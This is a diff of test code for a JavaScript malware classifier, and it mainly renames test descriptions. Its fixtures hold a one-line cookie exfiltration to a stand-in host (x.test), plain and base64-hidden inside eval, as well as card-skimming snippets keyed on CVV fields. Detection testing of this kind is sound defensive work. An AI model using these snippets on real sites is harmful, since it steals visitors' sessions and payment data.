@@ -30,7 +30,7 @@ describe('script classifier: features', () => {
     }
   }
 
-  it('have unique ids in each family', () => {
+  it('have ids of their own in each family', () => {
     for (const family of families) {
       const ids = features[family].map(({ id }) => id);
       assert.equal(new Set(ids).size, ids.length);
@@ -52,7 +52,7 @@ describe('script classifier: ordinary scripts', () => {
   const ordinary: Readonly<Record<string, string>> = {
     'a loader of a tag manager': `(function (w, d, s, l, i) { w[l] = w[l] || []; w[l].push({ 'gtm.start': new Date().getTime(), event: 'gtm.js' }); var f = d.getElementsByTagName(s)[0], j = d.createElement(s), dl = l != 'dataLayer' ? '&l=' + l : ''; j.async = true; j.src = 'https://tags.example/gtm.js?id=' + i + dl; f.parentNode.insertBefore(j, f); })(window, document, 'script', 'dataLayer', 'GTM-X');`,
     'page views with an id from a cookie': `var id = (document.cookie.match(/(?:^|; )uid=([^;]*)/) || [])[1]; new Image().src = 'https://stats.example/v?u=' + encodeURIComponent(id) + '&p=' + encodeURIComponent(location.pathname);`,
-    'a payment that reads the response': `document.querySelector('#pay').onsubmit = async (e) => { e.preventDefault(); const r = await fetch('https://pay.example/v1/tokens', { method: 'POST', body: JSON.stringify({ number: document.querySelector('#card-number').value, cvc: document.querySelector('#cvc').value }) }); const { token } = await r.json(); document.querySelector('#token').value = token; e.target.submit(); };`,
+    'a payment that waits for its answer': `document.querySelector('#pay').onsubmit = async (e) => { e.preventDefault(); const r = await fetch('https://pay.example/v1/tokens', { method: 'POST', body: JSON.stringify({ number: document.querySelector('#card-number').value, cvc: document.querySelector('#cvc').value }) }); const { token } = await r.json(); document.querySelector('#token').value = token; e.target.submit(); };`,
     'a check of card fields': `const n = document.querySelector('#card-number'); n.addEventListener('input', () => { n.value = n.value.replace(/\\D/g, '').replace(/(.{4})/g, '$1 ').trim(); n.classList.toggle('bad', !/^4[0-9]{12}/.test(n.value)); });`,
     'a search as you type': `const q = document.querySelector('#q'); q.addEventListener('keyup', (e) => { if (e.key === 'Enter') fetch('/search?q=' + encodeURIComponent(q.value)).then((r) => r.json()).then(show); });`,
     'a shortcut': `document.addEventListener('keydown', function (e) { if (e.ctrlKey && e.keyCode === 75) open(); });`,
@@ -68,7 +68,7 @@ describe('script classifier: ordinary scripts', () => {
     });
   }
 
-  it('a script without features gets 99 everywhere', () => {
+  it('a script without anything gets 99 everywhere', () => {
     assert.deepEqual([...new Set(Object.values(scored('a();').scores))], [99]);
     assert.deepEqual(scored('').reasons, []);
   });
@@ -82,13 +82,13 @@ describe('script classifier: ordinary scripts', () => {
   });
 });
 
-describe('script classifier: verdicts', () => {
-  it('names the position of a reason, the highest points first', () => {
+describe('script classifier: answers', () => {
+  it('names the place of a reason, gravest first', () => {
     const { reasons } = scored(`a();\n  new Image().src = '//x.test/?' + document.cookie;`);
     assert.deepEqual(reasons[0], {
       id: 'all-cookies-sent-unanswered',
       family: 'malware',
-      what: 'Sends all cookies and ignores the response',
+      what: 'Sends all cookies as they are and nobody waits for an answer',
       points: 100,
       line: 2,
       column: 3,
@@ -101,7 +101,7 @@ describe('script classifier: verdicts', () => {
     );
   });
 
-  it('analyses code that a script contains as text', () => {
+  it('looks into code that a script carries as text', () => {
     const inner = `new Image().src = '//x.test/?' + document.cookie;`;
     const { reasons } = scored(`a();\neval(atob('${base64(inner)}'));`);
     const reason = reasons.find(({ id }) => id === 'all-cookies-sent-unanswered');
@@ -115,7 +115,7 @@ describe('script classifier: verdicts', () => {
     assert.equal(kindOf(`/*${'ä'.repeat(MAX_SCRIPT_BYTES / 2)}*/`), 'too-large');
   });
 
-  it('gives no scores for text that is not a script, and says why', () => {
+  it('gives no scores for what is no script, and says why', () => {
     for (const text of ['<html></html>', '{"imports":{}}', '['.repeat(100_000)]) {
       const verdict = classifyScript(text);
       assert.equal(verdict.kind, 'not-javascript');
@@ -135,7 +135,7 @@ describe('script classifier: verdicts', () => {
     'beside an assignment to a call': (code) => `${code};if(0){f()=1}`,
   };
   for (const [where, nest] of Object.entries(nests)) {
-    it(`scores code ${where} like the code alone`, () => {
+    it(`judges code ${where} as it judges the code alone`, () => {
       const theft = `new Image().src = '//x.test/?' + document.cookie;`;
       assert.ok(scored(nest(theft)).scores.integrity <= scored(theft).scores.integrity);
       assert.ok(scored(nest('a();')).scores.integrity >= MALICIOUS_BELOW);
@@ -149,7 +149,7 @@ describe('script classifier: verdicts', () => {
   });
 });
 
-describe('script classifier: hostile input', () => {
+describe('script classifier: hostile texts', () => {
   const fill = (piece: string): string => piece.repeat(Math.floor(290_000 / piece.length));
   const hostile: Readonly<Record<string, string>> = {
     'one name': fill('a'),
@@ -178,7 +178,7 @@ describe('script classifier: hostile input', () => {
     'many cases': `switch(a){${fill('case 1:')}}`,
     'many guards': fill('if(/cvv/.test(e.name))s(e.value);'),
     'one guard that is used again and again': `const P=/cvv/;function p(a){return P.test(a)}${fill('if(p(b))c(b.value);')}`,
-    'many responses with one name': fill('var r=fetch(u+document.forms[0].a.value);r.ok;'),
+    'many answers of one name': fill('var r=fetch(u+document.forms[0].a.value);r.ok;'),
     'many loops that search': fill('for(;;){const h=f(n++);if(h<t)postMessage(h)}'),
     'many nests': fill(`${'['.repeat(1100)}${']'.repeat(1100)};`),
     'many loops without an end': fill(`x=(function(){var s='';for(;;)s+='a';return s})();`),
@@ -189,13 +189,13 @@ describe('script classifier: hostile input', () => {
     'nested functions that call each other': `${Array.from({ length: 5000 }, (_, at) => `function f${at}(a){return f${(at * 7) % 5000}(a+f${(at * 3) % 5000}(a))}`).join('')}`,
   };
   for (const [what, code] of Object.entries(hostile)) {
-    it(`scores ${what}`, () => {
+    it(`judges ${what}`, () => {
       assert.ok(code.length > 50_000, 'long enough to take its time');
       assert.equal(classifyScript(code).kind, 'scored');
     });
   }
 
-  it('returns a verdict for any text', () => {
+  it('answers to any text', () => {
     const pieces = fc.constantFrom(
       ...[
         '(',
